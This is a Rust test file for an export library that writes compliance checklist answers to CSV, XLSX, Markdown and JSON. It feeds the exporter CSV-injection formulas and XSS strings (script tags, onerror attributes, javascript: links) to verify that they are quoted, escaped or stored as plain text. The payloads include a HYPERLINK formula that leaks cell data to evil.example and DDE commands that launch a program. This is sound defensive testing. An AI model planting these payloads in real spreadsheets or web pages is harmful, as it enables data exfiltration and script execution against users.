//! Hostile text in every export format: spreadsheet formulas (CSV injection), raw HTML and
//! `javascript:` links (Markdown), and a cell longer than a workbook cell can hold.

mod common;

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};
use sansho_core::assess::{Answer, derive};
use sansho_export::{EvidenceRef, Lang};

const CATALOG: &str = "mhlw-3-checklist";

/// What OWASP's CSV-injection page lists: a cell that starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return is a formula to a spreadsheet program.
const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"詳細\")",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "'=already quoted",
];

/// Requirements of the sample whose 実施内容 the tests replace.
const TARGETS: [&str; 8] = ["org-1", "org-2", "org-3", "org-4", "phys-1", "phys-2", "phys-3", "phys-4"];

fn with_how(set: &sansho_core::CatalogSet, payloads: &[&str]) -> Vec<Answer> {
    let mut answers = common::sample_answers(set);
    for (id, payload) in TARGETS.iter().zip(payloads) {
        let ix = set.node(CATALOG, id).unwrap();
        let reference = set.reference(ix);
        let a = answers.iter_mut().find(|a| a.requirement == reference).unwrap_or_else(|| panic!("{id} answered"));
        a.how = Some((*payload).to_owned());
    }
    answers
}

fn csv_records(text: &str) -> Vec<Vec<String>> {
    let body = text.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(body.as_bytes());
    reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted_with_an_apostrophe() {
    let set = common::bundled();
    let answers = with_how(&set, &FORMULAS);
    let derived = derive(&set, &answers).unwrap();
    let mut input = common::input(&derived, CATALOG, Lang::Ja, false);
    input.extra.get_mut("org-1").unwrap().owner = Some("@admin".into());
    let first = EvidenceRef { title: "=1+2".into(), effective: "2024-04-01".into(), ..EvidenceRef::default() };
    input.extra.get_mut("org-1").unwrap().evidence.insert(0, first);
    let records = csv_records(&sansho_export::csv(&input));
    for (id, payload) in TARGETS.iter().zip(FORMULAS) {
        let rec = records.iter().find(|r| r[0] == *id).unwrap();
        assert_eq!(rec[7], format!("'{payload}"), "{id}");
    }
    let org1 = records.iter().find(|r| r[0] == "org-1").unwrap();
    assert_eq!(org1[10], "'@admin");
    // A multi-line cell is one cell: only its first character counts.
    assert!(org1[8].starts_with("'=1+2 2024-04-01〜"), "{}", org1[8]);
    // No cell of the file starts with a formula character any more.
    for rec in &records {
        for c in rec {
            assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "{c:?}");
        }
    }
    // Ordinary text is left alone.
    let org5 = records.iter().find(|r| r[0] == "org-5").unwrap();
    assert!(!org5[7].starts_with('\''), "{}", org5[7]);
}

#[test]
fn xlsx_cells_with_formula_text_are_text_cells_not_formulas() {
    let set = common::bundled();
    let answers = with_how(&set, &FORMULAS);
    let derived = derive(&set, &answers).unwrap();
    let bytes = sansho_export::xlsx(&common::input(&derived, CATALOG, Lang::Ja, false)).unwrap();
    let mut wb = Xlsx::new(Cursor::new(bytes.as_slice())).unwrap();
    let range = wb.worksheet_range(CATALOG).unwrap();
    for (id, payload) in TARGETS.iter().zip(FORMULAS) {
        let r = (0..range.end().unwrap().0 + 1)
            .find(|&r| range.get_value((r, 11)).map(|d| d.to_string()).as_deref() == Some(id))
            .unwrap();
        // Shared strings keep the text exactly (CR included), as a string cell.
        assert_eq!(range.get_value((r, 6)), Some(&Data::String((*payload).to_owned())), "{id}");
    }
    let formulas = wb.worksheet_formula(CATALOG).unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "the sheet has no formula");
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes.as_slice())).unwrap();
    let mut sheet = String::new();
    zip.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut sheet).unwrap();
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "no formula element");
}

#[test]
fn markdown_and_json_keep_formula_text_verbatim() {
    let set = common::bundled();
    let answers = with_how(&set, &FORMULAS);
    let derived = derive(&set, &answers).unwrap();
    let input = common::input(&derived, CATALOG, Lang::Ja, false);
    let v = sansho_export::json(&input);
    for (id, payload) in TARGETS.iter().zip(FORMULAS) {
        let row = v["rows"].as_array().unwrap().iter().find(|r| r["id"] == *id).unwrap();
        assert_eq!(row["how"], payload, "{id}");
    }
    let md = sansho_export::markdown(&input);
    assert!(md.contains("| =HYPERLINK(\"http://evil.example/?x=\"&amp;A1,\"詳細\") |"), "{md}");
    assert!(md.contains("| @SUM(1,1) |"));
}

/// Renders Markdown as a viewer would (CommonMark with GitHub's tables).
fn render(md: &str) -> String {
    let parser = pulldown_cmark::Parser::new_ext(md, pulldown_cmark::Options::ENABLE_TABLES);
    let mut html = String::new();
    pulldown_cmark::html::push_html(&mut html, parser);
    html
}

#[test]
fn markdown_escapes_raw_html_and_javascript_links_in_user_text() {
    const HOSTILE: [&str; 8] = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(2)>",
        "[手順書](javascript:alert(3))",
        "![図](javascript:alert(4))",
        "<javascript:alert(5)>",
        "<a href=\"javascript:alert(6)\">規程</a>",
        "[参照]\n\n[参照]: javascript:alert(7)",
        "&lt;b&gt; A & B <!-- c -->",
    ];
    let set = common::bundled();
    let answers = with_how(&set, &HOSTILE);
    let derived = derive(&set, &answers).unwrap();
    let mut input = common::input(&derived, CATALOG, Lang::Ja, false);
    input.meta.organization = "<b onmouseover=alert(8)>病院</b>".into();
    input.extra.get_mut("org-1").unwrap().evidence.push(EvidenceRef {
        title: "[証跡](javascript:alert(9))".into(),
        url: Some("javascript:alert(10)".into()),
        effective: "2024-04-01".into(),
        ..EvidenceRef::default()
    });
    let md = sansho_export::markdown(&input);
    let html = render(&md);
    for bad in ["<script", "<img", "<a ", "<b ", "<!--"] {
        assert!(!html.contains(bad), "{bad} in the rendered export:\n{html}");
    }
    // The only elements are the ones the export itself makes: no link, image or raw HTML.
    const MADE: [&str; 13] = ["h1", "h2", "h3", "p", "table", "thead", "tbody", "tr", "th", "td", "br", "strong", "hr"];
    for tag in html.split('<').skip(1) {
        let name: String = tag.trim_start_matches('/').chars().take_while(char::is_ascii_alphanumeric).collect();
        assert!(MADE.contains(&name.as_str()), "<{name}> in the rendered export");
    }
    // The text is still there, as text.
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{html}");
    assert!(html.contains("[手順書](javascript:alert(3))"), "{html}");
    assert!(html.contains("&amp;lt;b&amp;gt; A &amp; B"), "{html}");
    assert!(html.contains("&lt;b onmouseover=alert(8)&gt;病院&lt;/b&gt;"), "{html}");
    // Line breaks the export makes are still breaks.
    assert!(html.contains("<br"), "{html}");
}

#[test]
fn a_40000_character_answer_exports_in_every_format_and_the_workbook_says_it_was_cut() {
    let long: String = "長".repeat(39_991) + "末尾の十文字です。";
    assert_eq!(long.chars().count(), 40_000);
    let set = common::bundled();
    let answers = with_how(&set, &[long.as_str()]);
    let derived = derive(&set, &answers).unwrap();
    let input = common::input(&derived, CATALOG, Lang::Ja, false);

    let bytes = sansho_export::xlsx(&input).expect("a long cell does not fail the workbook");
    let mut wb = Xlsx::new(Cursor::new(bytes.as_slice())).unwrap();
    let range = wb.worksheet_range(CATALOG).unwrap();
    let r = (0..range.end().unwrap().0 + 1)
        .find(|&r| range.get_value((r, 11)).map(|d| d.to_string()).as_deref() == Some("org-1"))
        .unwrap();
    let cell = range.get_value((r, 6)).unwrap().to_string();
    assert!(cell.encode_utf16().count() <= 32_767, "{} UTF-16 units", cell.encode_utf16().count());
    assert!(cell.starts_with("長長長"));
    assert!(cell.ends_with("…［以下省略：全 40000 文字］"), "{}", &cell[cell.len() - 80..]);
    let summary = wb.worksheet_range("集計").unwrap();
    let note = summary.used_cells().map(|(_, _, d)| d.to_string()).find(|t| t.contains("省略"));
    let note = note.expect("the summary sheet says that a cell was cut");
    assert!(note.contains("1 件") && note.contains("32,767"), "{note}");

    // The text formats keep the whole answer.
    let records = csv_records(&sansho_export::csv(&input));
    assert_eq!(records.iter().find(|r| r[0] == "org-1").unwrap()[7], long);
    assert!(sansho_export::markdown(&input).contains(&long));
    let v = sansho_export::json(&input);
    assert_eq!(v["rows"].as_array().unwrap().iter().find(|r| r["id"] == "org-1").unwrap()["how"], long.as_str());

    // In English too.
    let en = common::input(&derived, CATALOG, Lang::En, false);
    let bytes = sansho_export::xlsx(&en).unwrap();
    let mut wb = Xlsx::new(Cursor::new(bytes.as_slice())).unwrap();
    let range = wb.worksheet_range(CATALOG).unwrap();
    assert!(range.used_cells().any(|(_, _, d)| d.to_string().ends_with("… [cut: 40000 characters in all]")));
}
